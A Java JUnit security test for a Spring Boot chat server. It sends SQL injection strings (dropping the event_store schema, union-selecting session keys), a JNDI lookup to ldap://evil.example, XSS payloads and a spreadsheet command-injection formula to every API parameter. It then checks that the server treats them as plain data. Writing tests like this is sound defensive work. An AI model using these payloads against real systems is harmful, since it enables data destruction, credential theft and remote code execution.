package chat.parley.server;

import static org.assertj.core.api.Assertions.assertThat;

import chat.parley.server.Server.Answer;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** Whatever stands in a parameter, a path or a field is data: for SQL, for the search, and for whoever shows it. */
@ServerTest
class InjectionTest {
    private static final int REQUESTS_MIN = 300;
    private static final List<String> STATEMENTS = List.of(
            "' or '1'='1",
            "'; drop schema event_store cascade; --",
            "1; delete from event_store.domain_event",
            "1) union select key, key from account.session_key --",
            "\\'; select pg_sleep(60); --",
            "x' & !y:* | ('",
            "a:*b <-> (((",
            "\\\"%_*?{}[]$1 :1 ?::text",
            "${jndi:ldap://evil.example/x} #{T(java.lang.Runtime)} %{1}",
            "\0");
    private static final String TABLES = """
            select table_schema || '.' || table_name from information_schema.tables
            where table_schema in ('event_store', 'read_model', 'account') order by 1
            """;

    @LocalServerPort
    private int port;

    @Autowired
    private JdbcClient jdbc;

    private Server server;
    private Server operator;
    private String room;

    @BeforeEach
    void newRoom() {
        server = new Server(port);
        server.as("ada");
        operator = server.asOperator();
        room = server.newRoom();
        assertThat(operator.post("/rooms/%s/messages".formatted(room), "{\"content\":\"hello\"}")
                        .status())
                .isEqualTo(201);
    }

    @Test
    void everyParameterOfEveryRequestIsData() {
        List<String> tables = jdbc.sql(TABLES).query(String.class).list();
        long events = events();
        List<String> wrong = new ArrayList<>();
        int[] asked = {0};
        JsonNode paths = server.get("/docs/openapi").json().get("paths");
        paths.forEachEntry((path, item) -> item.forEachEntry((method, operation) -> {
            for (JsonNode parameter : operation.path("parameters")) {
                for (String statement : STATEMENTS) {
                    String attack =
                            request(path, operation, parameter.get("name").asString(), statement);
                    Answer answer = operator.ask(method.toUpperCase(Locale.ROOT), attack, "");
                    asked[0]++;
                    boolean tells =
                            !path.endsWith("/prometheus"); // whose answer is full of such words, whatever is asked
                    if (answer.status() >= 500
                            || (tells && answer.text().matches("(?is).*(syntax|sql|exception|hmac).*"))) {
                        wrong.add("%s %s: %d %s".formatted(method, attack, answer.status(), answer.text()));
                    }
                }
            }
        }));
        assertThat(wrong).isEmpty();
        assertThat(asked[0]).isGreaterThan(REQUESTS_MIN);
        assertThat(jdbc.sql(TABLES).query(String.class).list()).isEqualTo(tables);
        assertThat(events()).isGreaterThanOrEqualTo(events);
        assertThat(operator.get("/search?room=%s&q=hello".formatted(room)).json())
                .hasSize(1);
    }

    /** The others have values with which the request gets as far as the database. */
    private String request(String path, JsonNode operation, String attacked, String statement) {
        String whole = path;
        Map<String, String> query = new TreeMap<>();
        for (JsonNode parameter : operation.get("parameters")) {
            String name = parameter.get("name").asString();
            boolean isAttacked = name.equals(attacked);
            String value = encoded(isAttacked ? statement : innocent(name));
            if (parameter.get("in").asString().equals("path")) {
                whole = whole.replace("{" + name + "}", value);
            } else if (isAttacked
                    || parameter.path("required").asBoolean()
                    || name.equals("room")
                    || name.equals("q")) {
                query.put(name, value);
            }
        }
        String parameters = query.entrySet().stream()
                .map(entry -> entry.getKey() + "=" + entry.getValue())
                .reduce("", (all, one) -> all.isEmpty() ? "?" + one : all + "&" + one);
        return whole + parameters;
    }

    private String innocent(String name) {
        return switch (name) {
            case "room" -> room;
            case "message" -> "1";
            case "username" -> "bob";
            case "emoji" -> "👍";
            case "name" -> "nothing";
            default -> "hello";
        };
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private long events() {
        return jdbc.sql("select count(*) from event_store.domain_event")
                .query(Long.class)
                .single();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "</script><svg/onload=alert(1)>",
                "javascript:alert(1)",
                "{{constructor.constructor('alert(1)')()}}",
                "=cmd|' /C calc'!A1",
                "'; drop table event_store.domain_event; --"
            })
    void whatIsSaidComesBackAsItWasSaidAndAsNoPage(String script) {
        Server ada = server.as("ada");
        String id = "scripts-" + UUID.randomUUID();
        ok(ada.post("/rooms", object("id", id, "name", script, "topic", script)));
        JsonNode posted = ok(ada.post("/rooms/%s/messages".formatted(id), object("content", script)));
        String message =
                "/rooms/%s/messages/%s".formatted(id, posted.get("messageId").asString());
        ok(ada.ask("PATCH", message, object("content", script + "!")));
        ok(ada.ask("PUT", "/rooms/%s/bans/zed".formatted(id), object("reason", script)));
        ok(ada.ask("PATCH", "/rooms/" + id, object("topic", script + "?")));

        assertThat(ok(ada.get("/rooms/" + id)).get("name").asString()).isEqualTo(script);
        assertThat(ok(ada.get("/rooms/" + id)).get("topic").asString()).isEqualTo(script + "?");
        assertThat(ok(ada.get(message)).get("content").asString()).isEqualTo(script + "!");
        assertThat(ok(ada.get(message + "/revisions")).at("/0/content").asString())
                .isEqualTo(script);
        assertThat(ok(ada.get("/rooms/%s/bans".formatted(id))).at("/0/reason").asString())
                .isEqualTo(script);
        assertThat(ok(ada.get("/rooms/%s/events?after=-1".formatted(id))).toString())
                .contains(Server.JSON.writeValueAsString(script));
        ok(ada.get("/search?q=script&room=" + id));
        try (StompClient watcher = server.connect("watcher")) {
            watcher.send("SUBSCRIBE\ndestination:/topic/rooms/%s\nid:1\nafter:-1\n\n\0".formatted(id));
            StompClient.Frame pushed = watcher.await(frame -> frame.is("MESSAGE", "type", "message.posted"));
            assertThat(pushed.headers()).containsEntry("content-type", "application/json");
            assertThat(pushed.json().get("content").asString()).isEqualTo(script);
        }
    }

    /** These fields take no such text; the refusal, which may repeat it, is no page either. */
    @ParameterizedTest
    @ValueSource(strings = {"<script>alert(1)</script>", "<b onmouseover='x'>"})
    void whatIsRefusedIsNoPageEither(String script) {
        Server ada = server.as("ada");
        String inPath = encoded(script).replace("%2F", "");
        refused(ada.post("/session", object("username", script)));
        refused(ada.post("/rooms", object("id", script, "name", "x")));
        refused(ada.post("/rooms/%s/messages".formatted(room), object("content", "x", "messageId", script)));
        refused(ada.post("/rooms/%s/messages".formatted(room), object("content", "x", script, "x")));
        refused(ada.ask("PUT", "/rooms/%s/messages/1/reactions/%s".formatted(room, inPath), ""));
        refused(ada.ask("PUT", "/rooms/%s/members/%s".formatted(room, inPath), ""));
        refused(ada.get("/rooms/" + inPath));
        refused(ada.get("/messages?limit=" + encoded(script)));
        refused(ada.get("/" + inPath));
    }

    private static void refused(Answer answer) {
        assertThat(answer.status()).as(answer.text()).isBetween(400, 499);
        assertThat(answer.response().headers().firstValue("Content-Type")).contains("application/problem+json");
        assertThat(answer.response().headers().firstValue("X-Content-Type-Options"))
                .contains("nosniff");
    }

    private static JsonNode ok(Answer answer) {
        assertThat(answer.status()).as(answer.text()).isBetween(200, 204);
        assertThat(answer.response().headers().firstValue("X-Content-Type-Options"))
                .contains("nosniff");
        if (answer.status() == 204) {
            return Server.JSON.nullNode();
        }
        assertThat(answer.response().headers().firstValue("Content-Type")).contains("application/json");
        return answer.json();
    }

    private static String object(String... fields) {
        ObjectNode object = Server.JSON.createObjectNode();
        for (int i = 0; i < fields.length; i += 2) {
            object.put(fields[i], fields[i + 1]);
        }
        return object.toString();
    }
}
